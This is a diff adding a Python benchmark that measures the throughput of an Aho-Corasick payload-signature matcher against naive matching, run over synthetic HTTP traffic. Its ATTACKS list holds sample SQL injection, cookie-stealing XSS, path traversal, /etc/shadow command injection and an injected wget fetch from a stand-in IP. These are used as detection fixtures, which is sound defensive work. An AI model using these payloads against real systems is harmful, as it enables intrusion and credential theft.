@@ -0,0 +1,113 @@
+"""
+Payload Signature Benchmark
+
+Scans a corpus of synthetic TCP payloads (benign HTTP requests and
+responses, with a fraction carrying an attack string) against the
+bundled signature file and reports throughput in MB/s. The Aho-Corasick
+automaton is compared against the naive approach of testing every
+signature with `in`, once with the bundled signatures and once with
+extra random signatures added, since the naive scan slows down linearly
+with the signature count while the automaton does not.
+"""
+
+import random
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from src.detection.payload_signatures import PayloadSignatures, load_signatures
+
+SIGNATURES = Path(__file__).parent.parent / 'src' / 'detection' / 'rules' / 'payload.sigs'
+
+ATTACKS = [
+    b"id=1' UNION SELECT username, password FROM users--",
+    b"q=%27%20or%201%3D1--",
+    b"name=<script>alert(document.cookie)</script>",
+    b"file=../../../../etc/passwd",
+    b"cmd=;cat /etc/shadow",
+    b"ip=127.0.0.1|wget http://203.0.113.9/x.sh",
+]
+
+WORDS = [b'index', b'api', b'v1', b'users', b'static', b'img', b'search', b'page',
+         b'session', b'token', b'json', b'html', b'cart', b'item', b'lang', b'en']
+
+
+class NaiveMatcher:
+    """Baseline: one substring test per signature"""
+
+    def __init__(self, signatures):
+        self.exact = [(t, c) for t, c, nocase in signatures if not nocase]
+        self.nocase = [(t, c.lower()) for t, c, nocase in signatures if nocase]
+
+    def match(self, payload):
+        lowered = payload.lower()
+        threats = [t for t, c in self.exact if c in payload]
+        threats += [t for t, c in self.nocase if c in lowered]
+        return tuple(dict.fromkeys(threats))
+
+
+def make_payload(rng, malicious):
+    """One HTTP request or response of a few hundred bytes to ~1.4 KB"""
+    path = b'/'.join(rng.choice(WORDS) for _ in range(rng.randint(1, 4)))
+    query = b'&'.join(rng.choice(WORDS) + b'=' + str(rng.getrandbits(24)).encode()
+                      for _ in range(rng.randint(0, 4)))
+    if malicious:
+        query = (query + b'&' if query else b'') + rng.choice(ATTACKS)
+    if rng.random() < 0.5:
+        return (b'GET /' + path + b'?' + query + b' HTTP/1.1\r\nHost: example.com\r\n'
+                b'User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n'
+                b'Cookie: session=' + bytes(rng.choice(b'abcdef0123456789') for _ in range(32)) +
+                b'\r\n\r\n')
+    body = b' '.join(rng.choice(WORDS) for _ in range(rng.randint(40, 220)))
+    if malicious:
+        body += b' ' + rng.choice(ATTACKS)
+    return (b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ' +
+            str(len(body)).encode() + b'\r\n\r\n<html><body>' + body + b'</body></html>')
+
+
+def random_signatures(rng, count):
+    """Printable random strings, 6-16 bytes, that never occur in the corpus"""
+    alphabet = b'QWXZJKVqwxzjkv#~^'
+    return [('SYNTHETIC', bytes(rng.choice(alphabet) for _ in range(rng.randint(6, 16))),
+             bool(rng.getrandbits(1)))
+            for _ in range(count)]
+
+
+def throughput(match, payloads):
+    """(MB/s, payloads with a match)"""
+    size = sum(len(p) for p in payloads)
+    start = time.perf_counter()
+    hits = sum(1 for p in payloads if match(p))
+    return size / (time.perf_counter() - start) / 2**20, hits
+
+
+def main():
+    import argparse
+
+    parser = argparse.ArgumentParser(description='Benchmark payload signature matching')
+    parser.add_argument('--payloads', type=int, default=20000)
+    parser.add_argument('--malicious', type=float, default=0.1, help='fraction of attack payloads')
+    parser.add_argument('--extra-signatures', type=int, default=1000)
+    parser.add_argument('--seed', type=int, default=1)
+    args = parser.parse_args()
+
+    rng = random.Random(args.seed)
+    payloads = [make_payload(rng, rng.random() < args.malicious) for _ in range(args.payloads)]
+    print(f"Corpus: {len(payloads)} payloads, {sum(len(p) for p in payloads) / 2**20:.1f} MB, "
+          f"{args.malicious:.0%} malicious")
+
+    bundled = load_signatures(SIGNATURES)
+    for signatures in (bundled, bundled + random_signatures(rng, args.extra_signatures)):
+        engine = PayloadSignatures(signatures=signatures)
+        print(f"\n{len(signatures)} signatures, {engine.states} automaton states")
+        print(f"{'':<16} {'MB/s':>8} {'matches':>9}")
+        for name, match in (('aho-corasick', engine.match),
+                            ('naive in-loop', NaiveMatcher(signatures).match)):
+            mb_per_s, hits = throughput(match, payloads)
+            print(f"{name:<16} {mb_per_s:>8.1f} {hits:>9}")
+
+
+if __name__ == '__main__':
+    main()